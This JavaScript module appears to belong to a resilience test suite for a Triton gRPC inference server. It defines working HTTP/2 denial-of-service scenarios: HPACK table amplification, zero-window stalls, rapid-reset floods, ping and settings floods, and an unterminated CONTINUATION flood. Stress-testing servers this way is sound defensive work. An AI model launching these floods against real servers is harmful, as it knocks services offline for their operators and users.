/**
 * Attacks with frames of HTTP/2: header blocks, windows, resets and control frames.
 */
import { setTimeout as pause } from "node:timers/promises";
import { encode } from "../../../dist/triton-protos/proto-root.js";
import {
  CONTINUATION,
  dataFrames,
  END_HEADERS,
  frame,
  framed,
  greeting,
  grpcHead,
  HEADERS,
  PING,
  RST,
  SETTINGS,
  setting,
  word,
} from "../../scorecard/support/http2-client.mjs";
import { INFER_HEAD, INFER_PATH } from "../../scorecard/support/messages.mjs";
import { concurrently, onConnection, write } from "./support.mjs";

const MAX_FRAME = 16_384;

/** A block as HEADERS and CONTINUATION. */
function blockFrames(stream, block) {
  const frames = [];
  for (let at = 0; at < block.length; at += MAX_FRAME) {
    const flags = at + MAX_FRAME >= block.length ? END_HEADERS : 0;
    frames.push(frame(at === 0 ? HEADERS : CONTINUATION, flags, stream, block.subarray(at, at + MAX_FRAME)));
  }
  return Buffer.concat(frames);
}

/** An entry of 3,900 bytes for the decoder's table, under an index of one byte. */
const entry = () => {
  const value = Buffer.alloc(3900, "v");
  const length = Buffer.from([0x7f, 0xbd, 0x1d]);
  return Buffer.concat([Buffer.from([0x40, 1]), Buffer.from("a"), length, value]);
};

/** Four connections, each just below the resets that a connection is allowed. */
export const references = {
  id: "http2-hpack",
  title: "HPACK references to a large entry, 64 KB a block, 90 blocks a second on four connections",
  tags: ["http2"],
  prepare() {
    const references = Buffer.alloc(60_000, 0xbe);
    return ({ grpc, until }) =>
      concurrently(4, until, () =>
        onConnection(grpc, until, async socket => {
          await write(socket, Buffer.concat([greeting(), frame(SETTINGS, 1, 0)]));
          for (let stream = 1, sent = 0; Date.now() < until && !socket.destroyed; stream += 2, sent++) {
            const block = Buffer.concat([grpcHead(INFER_PATH), ...(sent === 0 ? [entry()] : []), references]);
            if (!(await write(socket, blockFrames(stream, block)))) return;
            // The burst first, then the steady rate.
            if (sent > 900) await pause(11);
          }
        }),
      );
  },
};

/** Answers that nothing is granted for. */
export const zeroWindow = {
  id: "http2-zero-window",
  title: "800 streams of 2 MB without a window",
  tags: ["http2"],
  prepare() {
    const content = Buffer.alloc(2 ** 21 + 4, "x");
    content.writeUInt32LE(2 ** 21);
    const message = framed(
      Buffer.from(
        encode("inference.ModelInferRequest", {
          model_name: "echo_bytes",
          inputs: [{ name: "INPUT0", datatype: "BYTES", shape: [1, 1] }],
          raw_input_contents: [content],
        }),
      ),
    );
    return ({ grpc, until }) =>
      concurrently(8, until, () =>
        onConnection(grpc, until, async socket => {
          await write(socket, Buffer.concat([greeting(0), frame(SETTINGS, 1, 0)]));
          for (let stream = 1; stream < 200 && Date.now() < until; stream += 2) {
            if (!(await write(socket, frame(HEADERS, END_HEADERS, stream, INFER_HEAD)))) return;
            for (const data of dataFrames(stream, message)) if (!(await write(socket, data))) return;
          }
          while (Date.now() < until && !socket.destroyed) await pause(50);
        }),
      );
  },
};

const flood = (id, title, makeBatch) => ({
  id,
  title,
  tags: ["http2"],
  prepare:
    () =>
    ({ grpc, until }) =>
      concurrently(4, until, () =>
        onConnection(grpc, until, async socket => {
          await write(socket, Buffer.concat([greeting(), frame(SETTINGS, 1, 0)]));
          for (let round = 0; Date.now() < until; round++) if (!(await write(socket, makeBatch(round)))) return;
        }),
      ),
});

const BATCH = 200;
const times = make => Buffer.concat(Array.from({ length: BATCH }, (_, i) => make(i)));

export const rapidReset = flood("http2-rapid-reset", "streams opened and reset at once", round =>
  times(i => {
    const stream = 2 * (round * BATCH + i) + 1;
    return Buffer.concat([frame(HEADERS, END_HEADERS, stream, INFER_HEAD), frame(RST, 0, stream, word(8))]);
  }),
);
export const pings = flood("http2-pings", "pings", () => times(() => frame(PING, 0, 0, Buffer.alloc(8))));
export const settings = flood("http2-settings", "settings", () =>
  times(i => frame(SETTINGS, 0, 0, setting(4, 65_535 + i))),
);
export const continuation = flood("http2-continuation", "a header block without an end", round =>
  times(i =>
    round === 0 && i === 0 ? frame(HEADERS, 0, 1, INFER_HEAD) : frame(CONTINUATION, 0, 1, Buffer.alloc(1000, 0x82)),
  ),
);
